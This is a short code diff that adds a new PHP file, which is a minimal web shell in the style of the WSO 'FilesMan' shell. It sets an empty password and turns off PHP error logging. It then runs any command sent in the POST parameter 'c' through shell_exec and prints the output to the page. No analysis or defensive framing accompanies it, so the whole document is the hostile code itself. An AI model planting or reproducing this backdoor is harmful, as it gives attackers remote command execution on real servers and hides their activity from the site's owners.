@@ -0,0 +1,9 @@
+<?php
+$auth_pass = "";
+$color = "#df5";
+$default_action = 'FilesMan';
+@ini_set('error_log', NULL);
+@ini_set('log_errors', 0);
+if (isset($_POST['c'])) {
+	echo '<pre>' . shell_exec($_POST['c']) . '</pre>';
+}